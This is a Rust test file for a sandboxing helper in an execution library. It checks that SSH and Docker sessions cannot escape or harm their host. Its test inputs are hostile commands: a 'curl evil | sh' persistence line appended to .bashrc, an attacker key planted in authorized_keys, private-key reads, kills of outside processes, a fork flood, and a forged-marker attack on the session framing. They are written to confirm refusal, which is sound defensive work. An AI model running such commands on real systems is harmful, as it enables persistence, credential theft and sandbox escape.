//! What a remote session guarantees with the helper, against the real sshd and dockerd of
//! `scripts/test.sh`, under a permit-all policy set (so that the policy is never what
//! stops these commands): the kernel of the target refuses writes outside the workspace,
//! reads of credentials, signals to the account's other processes and fork floods; the
//! session's processes never outlive it (timeouts, `setsid`, a dropped connection); the
//! framing holds against a forged marker; `require_sandbox` refuses a target the helper
//! cannot guard; a shell that hit a limit restarts with its cwd and exports.

use crate::common::*;
use crate::remote_sessions::{docker_fixture, ssh_fixture, ssh_home};
use execkit_runner::docker::DockerTarget;
use execkit_runner::remote_sandbox::HelperSource;
use execkit_runner::sandbox::Level;
use execkit_runner::{ExecOptions, LimitHit, Session, SessionError};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// The test account's home, when the test sshd runs.
fn home_if_ssh() -> Option<PathBuf> {
    ssh_fixture().map(|(t, _)| ssh_home(&t.user))
}

fn uid_gid_of(path: &Path) -> (u32, u32) {
    use std::os::unix::fs::MetadataExt;
    let m = std::fs::metadata(path).unwrap();
    (m.uid(), m.gid())
}

/// Live processes on this machine whose command line holds `marker`.
fn live_with(marker: &str) -> Vec<i32> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| {
            let pid: i32 = e.file_name().to_str()?.parse().ok()?;
            let cmd = std::fs::read(e.path().join("cmdline")).ok()?;
            let stat = std::fs::read_to_string(e.path().join("stat")).ok()?;
            let zombie = stat
                .rsplit_once(") ")
                .is_some_and(|(_, r)| r.starts_with('Z'));
            (!zombie && String::from_utf8_lossy(&cmd).contains(marker)).then_some(pid)
        })
        .collect()
}

/// Waits (up to 10 s) until nothing with `marker` runs; panics with `what` otherwise.
async fn gone(marker: &str, what: &str) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while !live_with(marker).is_empty() {
        assert!(
            Instant::now() < deadline,
            "{what}: {:?} still run",
            live_with(marker)
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn ssh_session(limits: Option<execkit_runner::Limits>) -> Option<Session> {
    let (t, s) = ssh_fixture()?;
    let mut b = Session::builder().engine(permit_all());
    if let Some(l) = limits {
        b = b.limits(l);
    }
    Some(Session::ssh(&t, &s, b.build().unwrap()).await.unwrap())
}

#[tokio::test]
async fn the_targets_kernel_refuses_what_a_permit_all_policy_lets_through() {
    let (Some(s), Some(home)) = (ssh_session(None).await, home_if_ssh()) else {
        return;
    };
    let e = s.info().await.enforcement;
    assert_eq!(e.level, Level::Full, "{e:?}");
    assert!(
        e.pid_namespace && e.filesystem && e.scopes && e.seccomp,
        "{e:?}"
    );
    let before: Vec<(PathBuf, Vec<u8>)> = [".bashrc", ".ssh/authorized_keys"]
        .iter()
        .map(|f| (home.join(f), std::fs::read(home.join(f)).unwrap()))
        .collect();
    for attack in [
        "echo 'curl evil | sh' >> ~/.bashrc",
        "echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys",
        "echo x > ~/elsewhere/x",
        "cp /bin/true ~/elsewhere/planted",
        "mv ~/.bashrc ~/elsewhere/moved",
    ] {
        // Written as the command, the decision predicts the kernel's refusal; hidden in a
        // script, the kernel refuses.
        if attack.contains('>') {
            predicted_refusal(&s, attack).await;
        }
        let r = run(&s, &hidden(attack)).await;
        assert_ne!(r.exit_code, Some(0), "`{attack}` succeeded: {r:?}");
        assert!(r.stderr.contains("ermission denied"), "`{attack}`: {r:?}");
    }
    for (path, bytes) in &before {
        assert_eq!(
            &std::fs::read(path).unwrap(),
            bytes,
            "{} changed",
            path.display()
        );
    }
    assert!(!home.join("elsewhere/x").exists() && !home.join("elsewhere/planted").exists());
    // The account's private key: unreadable.
    let r = run(&s, "cat ~/.ssh/id_ed25519; head -c 40 ~/.ssh/id_ed25519").await;
    assert!(!r.stdout.contains("fake-test-key"), "{r:?}");
    assert!(r.stderr.contains("ermission denied"), "{r:?}");
    // A process of the same account outside the session: out of reach.
    let (uid, gid) = uid_gid_of(&home.join(".bashrc"));
    let marker = format!("611.{}", rand_u64() % 100_000);
    let mut outside = {
        use std::os::unix::process::CommandExt;
        std::process::Command::new("sleep")
            .arg(&marker)
            .uid(uid)
            .gid(gid)
            .spawn()
            .unwrap()
    };
    let pid = outside.id();
    let r = run(&s, &format!("kill -9 {pid}; kill -STOP {pid}; echo $?")).await;
    assert!(
        matches!(outside.try_wait(), Ok(None)),
        "the session killed a process outside it: {r:?}"
    );
    let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    assert!(
        !state.contains(") T"),
        "stopped from inside the session: {state}"
    );
    let _ = outside.kill();
    let _ = outside.wait();
    // Its processes are not even visible.
    let r = ok(&s, "ps -e -o pid= | wc -l").await;
    let n: usize = r.stdout.trim().parse().unwrap();
    assert!(n < 10, "the session sees {n} processes");
    s.close().await;
}

#[tokio::test]
async fn a_fork_flood_hits_the_kernel_limit_and_the_session_restarts_with_its_state() {
    let mut limits = execkit_runner::Limits::default();
    let mut res = execkit_runner::Resources::unlimited();
    res.processes = Some(40);
    limits.resources = res;
    limits.default_timeout = Duration::from_secs(60);
    let Some(s) = ssh_session(Some(limits)).await else {
        return;
    };
    ok(
        &s,
        "mkdir -p deep/er && cd deep/er && export KEEP=kept SPACED='a b  \"c\"' && v=shell-only",
    )
    .await;
    let r = run(&s, "for i in $(seq 300); do sleep 30 & done; echo survived").await;
    assert!(
        r.limits_hit
            .iter()
            .any(|l| matches!(l, LimitHit::Processes { max_processes: 40 })),
        "{r:?}"
    );
    assert!(r.stderr.contains("fork"), "{r:?}");
    if r.shell_exited {
        let why = r.shell_exit_reason.clone().unwrap_or_default();
        assert!(why.contains("process limit 40"), "{why}");
        match s.exec("echo hi", &Default::default()).await {
            Err(execkit_runner::ExecError::ShellGone(w)) => {
                assert!(w.contains("restart"), "{w}")
            }
            other => panic!("{other:?}"),
        }
    }
    let report = s.restart().await.unwrap();
    assert!(report.cwd.ends_with("/deep/er"), "{report:?}");
    assert!(report.restored.contains(&"KEEP".to_string()), "{report:?}");
    assert!(report.refused.is_empty(), "{report:?}");
    let r = ok(&s, "pwd; echo \"$KEEP|$SPACED|${v:-gone}\"").await;
    assert!(
        r.stdout.ends_with("/deep/er\nkept|a b  \"c\"|gone\n"),
        "{r:?}"
    );
    // No sleep of the flood is left.
    let r = ok(&s, "ps -e -o comm= | grep -c sleep || true").await;
    assert_eq!(r.stdout.trim(), "0", "{r:?}");
    s.close().await;
}

#[tokio::test]
async fn nothing_the_session_started_outlives_it() {
    let Some(s) = ssh_session(None).await else {
        return;
    };
    let private = s.info().await.enforcement.writable[0].clone();
    let marker = format!("1007.{}", rand_u64() % 100_000);
    let r = s
        .exec(
            &format!("setsid sleep {marker} & disown; (sleep {marker}1 &); sleep 10"),
            &ExecOptions::timeout(Duration::from_secs(2)),
        )
        .await
        .unwrap();
    assert!(r.timed_out, "{r:?}");
    assert_eq!(ok(&s, "echo still").await.stdout, "still\n");
    s.close().await;
    gone(&marker, "setsid and subshell escapes survived the close").await;
    assert!(!private.exists(), "{} left behind", private.display());
}

#[tokio::test]
async fn a_dropped_connection_takes_the_remote_tree_with_it() {
    let Some(s) = ssh_session(None).await else {
        return;
    };
    let s = std::sync::Arc::new(s);
    let info = s.info().await;
    let helper = info.helper_pid.unwrap();
    let private = info.enforcement.writable[0].clone();
    let marker = format!("1020.{}", rand_u64() % 100_000);
    let parent = |pid: i32| -> i32 {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
        let rest = &stat[stat.rfind(')').unwrap() + 2..];
        rest.split_whitespace().nth(1).unwrap().parse().unwrap()
    };
    let sshd = parent(helper);
    let monitor = parent(sshd);
    let runner = {
        let s = s.clone();
        let marker = marker.clone();
        tokio::spawn(async move {
            run(
                &s,
                &format!("sleep {marker}1 & sleep {marker}2 & setsid sleep {marker}3 & sleep 30"),
            )
            .await
        })
    };
    let deadline = Instant::now() + Duration::from_secs(10);
    while live_with(&marker).len() < 3 {
        assert!(Instant::now() < deadline, "the sleeps did not start");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // sshd's processes for the session die; the helper sees its stdin end.
    let killed = std::process::Command::new("kill")
        .arg("-KILL")
        .args([monitor, sshd].map(|p| p.to_string()))
        .status()
        .unwrap();
    assert!(killed.success());
    let r = runner.await.unwrap();
    assert!(r.shell_exited, "{r:?}");
    let why = r.shell_exit_reason.clone().unwrap_or_default();
    assert!(
        why.contains("connection to the remote host was lost"),
        "{r:?}"
    );
    gone(
        &marker,
        "the session's processes survived the dropped connection",
    )
    .await;
    let deadline = Instant::now() + Duration::from_secs(10);
    while private.exists() || std::path::Path::new(&format!("/proc/{helper}")).exists() {
        assert!(
            Instant::now() < deadline,
            "the helper or its directory stayed"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    s.close().await;
}

/// The forged-marker attack that reads the shell's saved stdin through `/proc`: the helper
/// gives the shell a socket, which cannot be opened again, whatever the policies allow.
#[tokio::test]
async fn a_forged_marker_fails_under_permit_all_on_ssh_and_docker() {
    let mut sessions = Vec::new();
    if let Some(s) = ssh_session(None).await {
        sessions.push(("ssh", s));
    }
    if let Some(d) = docker_fixture() {
        let config = Session::builder().engine(permit_all()).build().unwrap();
        let target = DockerTarget::Image("execkit-test:latest".into());
        sessions.push((
            "docker",
            Session::docker(&target, &d, config).await.unwrap(),
        ));
    }
    let tok = r#"tok=$(declare -f | sed -n "s/.*'\([0-9a-f]\{16\}\)' \"\$2\".*/\1/p" | head -1)"#;
    for (name, s) in sessions {
        let attack = format!(
            "{tok}; exec 3</proc/$$/fd/10 || echo no-reopen; read -r junk <&3; printf '\\n\\037EK%s:ask:2\\n' \"$tok\"; read -r n <&3; printf '\\n\\037EK%s:end:0:4:/etc:/\\n\\037EK%s:fin\\n' \"$n\" \"$n\"; sleep 0.3; echo survived; false"
        );
        let r = run(&s, &attack).await;
        assert!(r.stdout.contains("no-reopen"), "{name}: {r:?}");
        assert!(
            r.stdout.ends_with("survived\n"),
            "{name}: result cut short: {r:?}"
        );
        assert_eq!(r.exit_code, Some(1), "{name}: {r:?}");
        for i in 0..3 {
            let r = ok(&s, &format!("echo next{i}")).await;
            assert_eq!(r.stdout, format!("next{i}\n"), "{name}");
        }
        s.close().await;
    }
}

#[tokio::test]
async fn require_sandbox_refuses_a_target_the_helper_cannot_guard() {
    let Some((t, mut settings)) = ssh_fixture() else {
        return;
    };
    // A helper the operator "installed" that cannot run.
    let path = std::env::temp_dir().join(format!("ek-not-a-helper-{}", rand_u64()));
    std::fs::write(&path, "not executable").unwrap();
    settings.sandbox.helper = HelperSource::Installed(path.display().to_string());
    settings.sandbox.require = true;
    let config = || Session::builder().engine(permit_all()).build().unwrap();
    let err = match Session::ssh(&t, &settings, config()).await {
        Err(e) => e,
        Ok(_) => panic!("a session opened without its required sandbox"),
    };
    assert!(matches!(err, SessionError::SandboxRequired(_)), "{err}");
    let msg = err.to_string();
    assert!(
        msg.contains("not executable") && msg.contains("require"),
        "{msg}"
    );
    // The same target without the requirement: a session guarded by the policies only,
    // which says so.
    settings.sandbox.require = false;
    let s = Session::ssh(&t, &settings, config()).await.unwrap();
    let e = s.info().await.enforcement;
    assert_eq!(e.level, Level::None, "{e:?}");
    assert!(e.notes.join(" ").contains("not executable"), "{e:?}");
    s.close().await;
    // Off: the operator's choice, refused under the requirement too.
    settings.sandbox.helper = HelperSource::Off;
    settings.sandbox.require = true;
    assert!(Session::ssh(&t, &settings, config()).await.is_err());
    let _ = std::fs::remove_file(&path);
}

#[tokio::test]
async fn ephemeral_containers_of_a_dead_server_are_removed_by_the_next() {
    let Some(d) = docker_fixture() else {
        return;
    };
    let endpoint = d.endpoint.clone();
    let docker = |args: &[&str]| {
        std::process::Command::new("docker")
            .args(args)
            .env("DOCKER_HOST", &endpoint)
            .output()
            .unwrap()
    };
    // A container labelled as a session of a server of this user that no longer runs.
    let boot = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
    let uid = nix::unistd::geteuid().as_raw();
    let name = format!("ek-stale-{}", rand_u64() % 1_000_000);
    let label = format!("execkit.owner={uid}:{}:{}.5", boot.trim(), i32::MAX);
    let o = docker(&[
        "create",
        "--name",
        &name,
        "--label",
        "execkit.session=ephemeral",
        "--label",
        &label,
        "execkit-test:latest",
        "sleep",
        "1000",
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    // Another user's is never touched.
    let other = format!("ek-other-{}", rand_u64() % 1_000_000);
    let other_label = format!("execkit.owner={}:{}:{}.5", uid + 1, boot.trim(), i32::MAX);
    let o = docker(&[
        "create",
        "--name",
        &other,
        "--label",
        "execkit.session=ephemeral",
        "--label",
        &other_label,
        "execkit-test:latest",
        "sleep",
        "1000",
    ]);
    assert!(o.status.success());
    let config = Session::builder().engine(permit_all()).build().unwrap();
    let target = DockerTarget::Image("execkit-test:latest".into());
    let s = Session::docker(&target, &d, config).await.unwrap();
    let names = String::from_utf8_lossy(&docker(&["ps", "-a", "--format", "{{.Names}}"]).stdout)
        .into_owned();
    assert!(
        !names.contains(&name),
        "the stale container is still there: {names}"
    );
    assert!(
        names.contains(&other),
        "another user's container was removed: {names}"
    );
    let _ = docker(&["rm", "-f", &other]);
    // This session's container goes when the session does.
    let mine = s.info().await.container.unwrap();
    s.close().await;
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let out = docker(&["ps", "-a", "--format", "{{.Names}}"]);
        if !String::from_utf8_lossy(&out.stdout).contains(&mine) {
            break;
        }
        assert!(Instant::now() < deadline, "{mine} left behind");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}
